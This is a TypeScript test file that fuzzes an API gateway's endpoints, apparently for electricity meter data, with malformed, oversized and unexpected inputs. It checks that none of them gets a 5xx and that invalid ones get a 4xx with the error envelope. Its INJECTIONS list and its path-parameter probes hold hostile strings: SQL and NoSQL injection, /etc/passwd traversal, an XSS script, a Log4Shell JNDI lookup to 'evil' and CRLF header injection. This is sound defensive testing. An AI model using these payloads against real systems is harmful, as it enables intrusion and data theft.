import type { Express } from 'express';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadOpenApiDocument, type OperationSpec } from '../../host/http/openapi-document.js';
import { api } from '../support/api.js';
import { startTestGateway, STRONG_PASSWORD, type TestGateway } from '../support/gateway.js';
import { temporaryDatabase } from '../support/postgres.js';
import { describeWithServices, REDIS_URL } from '../support/services.js';
import { conformsToSpec } from '../support/spec-check.js';
import { record } from './record.js';

type Schema = {
  type?: string;
  properties?: Record<string, Schema>;
  required?: string[];
  maxLength?: number;
  nullable?: boolean;
  enum?: unknown[];
  $ref?: string;
};
type Method = 'get' | 'post' | 'patch' | 'delete' | 'put';

const doc = loadOpenApiDocument();
const spec = doc.document as {
  paths: Record<
    string,
    Record<
      string,
      {
        requestBody?: { content: Record<string, { schema: Schema }> };
        parameters?: Array<{ name: string; in: string; required?: boolean; schema: Schema } | { $ref: string }>;
      }
    >
  >;
  components: { schemas: Record<string, Schema>; parameters: Record<string, { name: string; in: string; required?: boolean; schema: Schema }> };
};
const deref = <T>(node: T | { $ref: string }): T => {
  if (node && typeof node === 'object' && '$ref' in node && typeof node.$ref === 'string') {
    const [, , section, name] = node.$ref.split('/');
    return deref((spec.components as Record<string, Record<string, unknown>>)[section!]![name!] as T);
  }
  return node as T;
};

const INJECTIONS = [
  "' OR '1'='1' --",
  '{"$gt": ""}',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/x}',
  '%00%2e%2e%2f',
  'admin@example.org\r\nBcc: x@evil',
];
const WEIRD = ['\u0000nul', 'bell\u0007', 'rtl\u202Eevil', '日本語のテキスト', '😀🔥', ' ', ''];
const VALID_DATE_QUERY = { start: '2025-01-01', end: '2025-01-08' };

export interface Probe {
  readonly label: string;
  readonly method: Method;
  readonly path: string;
  readonly query?: Record<string, string>;
  readonly body?: unknown;
  readonly raw?: { type: string; text: string };
  /** `invalid`: must be refused with a 4xx; `odd`: may pass, must not fail. */
  readonly expect: 'invalid' | 'odd';
}

interface Context {
  readonly upid: string;
  readonly userId: string;
}

function validBody(op: OperationSpec, n: number): Record<string, unknown> | null {
  const bodies: Record<string, Record<string, unknown>> = {
    signUp: { email: `neg-${n}@example.org`, password: STRONG_PASSWORD },
    logIn: { email: `neg-${n}@example.org`, password: STRONG_PASSWORD },
    issueToken: { grant_type: 'client_credentials', client_id: 'cli_x', client_secret: 'y' },
    resendVerification: { email: 'someone@example.org' },
    forgotPassword: { email: 'someone@example.org' },
    resetPassword: { token: 'not-a-token', new_password: STRONG_PASSWORD },
    changePassword: { current_password: 'Wrong-Pass1', new_password: STRONG_PASSWORD },
    createPdl: { usage_point_id: String(30_000_000_000_000 + n), name: 'Meter' },
    updatePdl: { name: 'Renamed' },
    adminUpdateUser: { role: 'visitor' },
  };
  return bodies[op.operationId] ?? null;
}

function pathFor(op: OperationSpec, ctx: Context, override: Record<string, string> = {}): string {
  const values: Record<string, string> = { usage_point_id: ctx.upid, pdl_id: ctx.upid, user_id: ctx.userId, ...override };
  return doc.basePath + op.path.replace(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(values[name]!));
}

function parametersOf(op: OperationSpec) {
  const item = spec.paths[op.path]!;
  return [...((item as { parameters?: unknown[] }).parameters ?? []), ...(item[op.method]!.parameters ?? [])].map((p) =>
    deref(p as { name: string; in: string; required?: boolean; schema: Schema }),
  );
}

function baseQuery(op: OperationSpec): Record<string, string> {
  const query: Record<string, string> = {};
  for (const p of parametersOf(op)) {
    if (p.in !== 'query' || !p.required) continue;
    query[p.name] = p.name in VALID_DATE_QUERY ? VALID_DATE_QUERY[p.name as 'start'] : 'x';
  }
  return query;
}

/** Every invalid or odd variant of every operation's inputs. */
export function probes(ctx: Context): Probe[] {
  const all: Probe[] = [];
  let n = 0;
  for (const op of doc.operations) {
    const method = op.method as Method;
    const path = pathFor(op, ctx);
    const query = baseQuery(op);
    const content = spec.paths[op.path]![op.method]!.requestBody?.content ?? {};
    const form = 'application/x-www-form-urlencoded' in content;
    const schema = deref((content['application/json'] ?? content['application/x-www-form-urlencoded'])?.schema ?? {}) as Schema;
    const body = validBody(op, ++n);
    const push = (label: string, probe: Omit<Probe, 'label' | 'method' | 'path'> & { path?: string }) =>
      all.push({ method, path, query, ...probe, label: `${op.operationId}: ${label}` });

    if (body && schema.properties) {
      for (const field of schema.required ?? []) {
        const { [field]: _, ...rest } = body;
        push(`without ${field}`, { body: rest, expect: 'invalid' });
      }
      push('with an unknown field', { body: { ...body, unexpected_field: 'x' }, expect: 'invalid' });
      for (const [field, fieldSchema] of Object.entries(schema.properties)) {
        const s = deref(fieldSchema);
        const wrong: unknown[] =
          s.type === 'string'
            ? [12345, true, { a: 1 }, ['x'], ...(s.nullable ? [] : [null])]
            : s.type === 'integer'
              ? ['ten', 1.5, true, ...(s.nullable ? [] : [null])]
              : s.type === 'boolean'
                ? ['yes', 1, null]
                : [];
        for (const value of form ? [] : wrong) push(`${field} as ${JSON.stringify(value)}`, { body: { ...body, [field]: value }, expect: 'invalid' });
        if (s.type === 'string' && !s.enum) {
          if (s.maxLength !== undefined)
            push(`${field} over ${s.maxLength} characters`, { body: { ...body, [field]: 'x'.repeat(s.maxLength + 1) }, expect: 'invalid' });
          for (const text of [...INJECTIONS, ...WEIRD]) push(`${field} = ${JSON.stringify(text)}`, { body: { ...body, [field]: text }, expect: 'odd' });
        }
        if (s.type === 'integer') push(`${field} out of range`, { body: { ...body, [field]: 10 ** 12 }, expect: 'invalid' });
      }
      if (!form) {
        push('malformed JSON', { raw: { type: 'application/json', text: '{"email": "x", ' }, expect: 'invalid' });
        push('a JSON array', { raw: { type: 'application/json', text: '[]' }, expect: 'invalid' });
        push('a bare number', { raw: { type: 'application/json', text: '42' }, expect: 'invalid' });
        push('as text/plain', { raw: { type: 'text/plain', text: JSON.stringify(body) }, expect: 'invalid' });
      }
      push('a 1 MB body', {
        raw: {
          type: form ? 'application/x-www-form-urlencoded' : 'application/json',
          text: form ? `client_id=${'x'.repeat(1_000_000)}` : JSON.stringify({ ...body, pad: 'x'.repeat(1_000_000) }),
        },
        expect: 'invalid',
      });
    }

    for (const p of parametersOf(op)) {
      if (p.in === 'query') {
        const s = deref(p.schema);
        const bad =
          (s as { format?: string }).format === 'date'
            ? ['2024-13-45', '2024-02-30', 'yesterday', '', '01/01/2024', "' OR 1=1", '2024-01-01T00:00:00Z']
            : s.type === 'integer'
              ? ['0', '-1', '1000000000', 'abc', '1.5']
              : s.type === 'boolean'
                ? ['maybe', '2']
                : [];
        for (const value of bad)
          push(`${p.name}=${JSON.stringify(value)}`, { query: { ...query, [p.name]: value }, body: body ?? undefined, expect: 'invalid' });
        if (s.type === 'string' && !(s as { format?: string }).format) {
          for (const text of [...INJECTIONS, ...WEIRD.filter((w) => w !== '')])
            push(`${p.name}=${JSON.stringify(text)}`, { query: { ...query, [p.name]: text }, body: body ?? undefined, expect: 'odd' });
        }
      }
      if (p.in === 'path') {
        for (const value of ['1234', 'x'.repeat(500), "' OR 1=1", '..%2F..%2Fetc', '日本', '%00', '-1']) {
          push(`${p.name}=${JSON.stringify(value)}`, { path: pathFor(op, ctx, { [p.name]: value }), body: body ?? undefined, expect: 'invalid' });
        }
      }
    }
    if (!spec.paths[op.path]![op.method]!['x-eov-allow-unknown-query-parameters' as never]) {
      push('an unknown query parameter', { query: { ...query, unknown_param: '1' }, body: body ?? undefined, expect: 'invalid' });
    }
    if (query.start) {
      push('a reversed range', { query: { ...query, start: '2025-01-08', end: '2025-01-01' }, expect: 'invalid' });
      // Upstream's batch routes clamp a long range to what Enedis has instead of refusing it.
      const clamps = Boolean(spec.paths[op.path]![op.method]!['x-clamps-range' as never]);
      push('a range of years', { query: { ...query, start: '2020-01-01', end: '2026-01-01' }, expect: clamps ? 'odd' : 'invalid' });
    }
  }
  return all;
}

export async function fire(app: Express, probe: Probe, auth: string) {
  let req = request(app)[probe.method](probe.path).set('Authorization', auth);
  if (probe.query) req = req.query(probe.query);
  if (probe.raw) return req.set('Content-Type', probe.raw.type).send(probe.raw.text);
  if (probe.body !== undefined) return probe.path.endsWith('/token') ? req.type('form').send(probe.body as object) : req.send(probe.body as object);
  return req;
}

function suite(label: string, env: () => Promise<{ env: Record<string, string>; cleanup(): Promise<void> }>) {
  describe(`spec-driven bad input, ${label}`, () => {
    let t: TestGateway;
    let cleanup: () => Promise<void>;
    let auth: string;
    let ctx: Context;

    beforeAll(async () => {
      const setup = await env();
      cleanup = setup.cleanup;
      t = await startTestGateway({
        ...setup.env,
        ADMIN_EMAILS: 'admin@example.org',
        USER_DAILY_LIMIT_NO_CACHE: '100000',
        USER_DAILY_LIMIT_WITH_CACHE: '100000',
        LOGIN_MAX_FAILURES_PER_ACCOUNT: '100000',
        LOGIN_MAX_FAILURES_PER_ADDRESS: '100000',
      });
      const admin = await t.signUpVerified('admin@example.org');
      auth = `Bearer ${admin.token}`;
      await api(t.app).post('/api/pdl').set('Authorization', auth).send({ usage_point_id: '12345678901234' }).expect(201);
      const other = await t.signUp('target@example.org');
      const me = await api(t.app).get('/api/accounts/me').set('Authorization', `Bearer ${other.token}`).expect(200);
      ctx = { upid: '12345678901234', userId: me.body.data.id };
    });
    afterAll(async () => {
      await t?.close();
      await cleanup?.();
    });

    it('when every operation gets every malformed, oversized, injected or unexpected input, then nothing answers 5xx and every invalid input gets a 4xx with the envelope', async () => {
      const tried = probes(ctx);
      const failures: string[] = [];
      const statuses = new Map<number, number>();
      for (const probe of tried) {
        const res = await fire(t.app, probe, auth);
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        const oauth = probe.path.endsWith('/accounts/token');
        const enveloped = oauth
          ? typeof res.body?.error === 'string'
          : res.status < 400 || (res.body?.success === false && typeof res.body?.error?.code === 'string');
        if (res.status >= 500) failures.push(`${probe.label} → ${res.status} ${JSON.stringify(res.body).slice(0, 160)}`);
        else if (probe.expect === 'invalid' && (res.status < 400 || res.status >= 500)) failures.push(`${probe.label} → ${res.status}, expected a 4xx`);
        else if (!enveloped && res.status !== 302 && !/yaml/.test(res.headers['content-type'] ?? ''))
          failures.push(`${probe.label} → ${res.status} without the error envelope`);
        else {
          try {
            conformsToSpec(res);
          } catch (error) {
            failures.push(`${probe.label}: ${(error as Error).message.slice(0, 200)}`);
          }
        }
      }
      const histogram = [...statuses.entries()]
        .sort(([a], [b]) => a - b)
        .map(([s, n]) => `${s}×${n}`)
        .join(' ');
      console.info(`bad input (${label}): ${tried.length} requests over ${doc.operations.length} operations: ${histogram}`);
      record(`negative-${label.replace(/\W+/g, '-')}`, [
        { part: `bad input (${label})`, tried: tried.length, outcome: failures.length === 0 ? 'pass' : `${failures.length} failures`, detail: histogram },
      ]);
      expect(failures).toEqual([]);
    });
  });
}

suite('SQLite', async () => ({ env: {}, cleanup: async () => {} }));

await describeWithServices('bad input on PostgreSQL and Redis', ['postgresql', 'redis'], () => {
  suite('PostgreSQL + Redis', async () => {
    const database = await temporaryDatabase('med_negative');
    return { env: { DATABASE_URL: database.url, REDIS_URL: REDIS_URL.replace(/\/\d+$/, '/12') }, cleanup: () => database.drop() };
  });
});
